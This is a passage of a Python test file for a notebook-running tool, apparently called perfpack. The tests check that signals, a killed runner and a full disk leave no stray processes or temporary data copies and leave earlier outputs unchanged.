    assert "missing.csv" in (out / "02-broken.html").read_text(encoding="utf-8"), "the error is still shown, with the path relative"


def tempfile_root() -> str:
    import tempfile

    return tempfile.gettempdir() + "/"


# ---- signals: handled as Ctrl-C; a killed run leaves nothing running and no copy of the data --


def _hold_validation(work: dict) -> tuple[subprocess.Popen, Path]:
    """A run held while it validates crimes.csv (its workers and kernel server started), in
    a temporary folder of its own."""
    tmpdir = work["tmp"] / "tmpdir"
    tmpdir.mkdir(exist_ok=True)
    mark = work["tmp"] / "VALIDATING"
    env = faulty(TMPDIR=str(tmpdir), PP_FAULT_HOLD="crimes.csv", PP_FAULT_HOLD_MARK=str(mark))
    proc = subprocess.Popen(
        perfpack_run(work["data"], work["out"], work["nbs"]), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, start_new_session=True
    )
    deadline = time.monotonic() + 240  # a busy machine: the hold itself lasts 600 s
    try:
        while not (mark.exists() and _has_kernel_server(proc.pid)):
            assert proc.poll() is None, f"the run ended (exit {proc.returncode}) before it validated: {proc.stderr.read()[-2000:]}"
            assert time.monotonic() < deadline, (
                f"the run never reached validation with its kernel server started (validating: {mark.exists()}; processes: {_family(proc.pid)})"
            )
            time.sleep(0.2)
    except BaseException:
        os.killpg(proc.pid, signal.SIGKILL)
        raise
    return proc, tmpdir


def _folders_of(pid: int) -> list[Path]:
    """Private folders of the run with process ``pid`` left in /tmp (its sockets, when the
    test's temporary folder is too deep for a socket path)."""
    found = []
    for p in Path("/tmp").glob("perfpack-run_*"):
        try:
            if json.loads((p / ".perfpack-run.json").read_text(encoding="utf-8")).get("pid") == pid:
                found.append(p)
        except (OSError, ValueError):
            continue
    return found


def _family(pid: int) -> list[str]:
    out = []
    for c in psutil.Process(pid).children(recursive=True):
        try:
            out.append(f"{c.pid} {c.status()} {' '.join(c.cmdline()[1:5])}")
        except psutil.Error as exc:
            out.append(f"{c.pid} {type(exc).__name__}")
    return out


def _has_kernel_server(pid: int) -> bool:
    try:
        children = psutil.Process(pid).children(recursive=True)
    except psutil.Error:
        return False
    for c in children:
        try:
            cmd = c.cmdline()
        except psutil.Error:  # a child that has just ended (or a zombie): not the server
            continue
        if "--serve" in cmd and any("kernel_fork" in a for a in cmd):
            return True
    return False


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
def test_sigterm_and_sighup_are_handled_like_ctrl_c(work, sig):
    proc, tmpdir = _hold_validation(work)
    family = psutil.Process(proc.pid).children(recursive=True)
    try:
        os.kill(proc.pid, sig)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 128 + sig, f"exit {proc.returncode}\n{err[-2000:]}"
    assert (
        f"stopped by {signal.Signals(sig).name}; earlier outputs are unchanged and the run's temporary files were removed" in err and "Traceback" not in err
    ), err[-2000:]
    _, alive = psutil.wait_procs(family, timeout=30)
    assert not alive, f"left running: {[' '.join(p.cmdline()[-3:]) for p in alive]}"
    assert not list(tmpdir.glob("perfpack-run_*")), f"left in the temporary folder: {list(tmpdir.iterdir())}"
    assert not _folders_of(proc.pid), "the run's socket folder outlived it"
    assert snapshot(work["out"]) == work["before"]
    no_debris(work["out"])


def test_a_run_killed_while_it_validates_leaves_no_process_and_no_copy_of_the_data(work):
    """SIGKILL of the runner alone (not its group): the kernel server (told by the kernel with
    PR_SET_PDEATHSIG) and the workers end, and remove the run's temporary folder, with the data
    snapshot in it. The stale lock does not stop the next run."""
    proc, tmpdir = _hold_validation(work)
    family = psutil.Process(proc.pid).children(recursive=True)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    _, alive = psutil.wait_procs(family, timeout=30)
    assert not alive, f"left running after the kill: {[' '.join(p.cmdline()[-3:]) for p in alive]}"
    deadline = time.monotonic() + 15
    while list(tmpdir.glob("perfpack-run_*")) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not list(tmpdir.glob("perfpack-run_*")), f"a copy of the data outlived the run: {list(tmpdir.iterdir())}"
    assert not _folders_of(proc.pid), "the run's socket folder outlived it"
    published = {k.relative_to(PERIOD): v for k, v in work["before"].items() if k.parts[0] == PERIOD}
    assert snapshot(work["out"] / PERIOD) == published, "the published pack changed"
    again = run(work["data"], work["out"], work["nbs"])
    assert again.returncode == 0, again.stderr[-2000:]
    no_debris(work["out"])


# ---- a full disk at the worst moments (injected in-process) -----------------------------------


def test_a_temp_folder_that_fills_while_the_data_are_copied_is_reported_in_words(work, monkeypatch):
    import errno

    import perfpack.sources.load as load
    from perfpack.execution.runner import RunError
    from perfpack.execution.runner import run as run_pack

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device", "/tmp/perfpack-run-x/data/crimes.arrow")

    monkeypatch.setattr(load, "write_table", full)
    monkeypatch.setenv("TMPDIR", str(work["tmp"] / "tmpdir"))
    (work["tmp"] / "tmpdir").mkdir()
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)  # read TMPDIR again
    with pytest.raises(RunError) as e:
        run_pack(PERIOD, data_dir=work["data"], out_dir=work["out"], notebooks_dir=work["nbs"], progress=False, workers=1)
    assert "The disk is full (/tmp/perfpack-run-x/data/crimes.arrow) while validating the data and writing the run's copy of it" in str(e.value)
    assert "Nothing was published; the earlier outputs are unchanged." in str(e.value)
    assert snapshot(work["out"]) == work["before"]
    assert not list((work["tmp"] / "tmpdir").glob("perfpack-run_*")), "the run's temporary folder was left"
    no_debris(work["out"])


def test_a_disk_that_fills_as_the_pack_is_swapped_in_leaves_the_earlier_pack(work, monkeypatch):
    import errno

    from perfpack.execution import pack_folder
    from perfpack.execution.runner import RunError
    from perfpack.execution.runner import run as run_pack

    real = os.replace

    def flaky(a, b):
        if Path(a).name.startswith(".build-"):
            raise OSError(errno.ENOSPC, "No space left on device", str(b))
        return real(a, b)

    monkeypatch.setattr(pack_folder.os, "replace", flaky)
    with pytest.raises(RunError) as e:
        run_pack(PERIOD, data_dir=work["data"], out_dir=work["out"], notebooks_dir=work["nbs"], progress=False, workers=1)
    assert "The disk is full" in str(e.value) and "while publishing the pack" in str(e.value)
    assert snapshot(work["out"]) == work["before"], "the earlier pack was not put back whole"
    no_debris(work["out"])
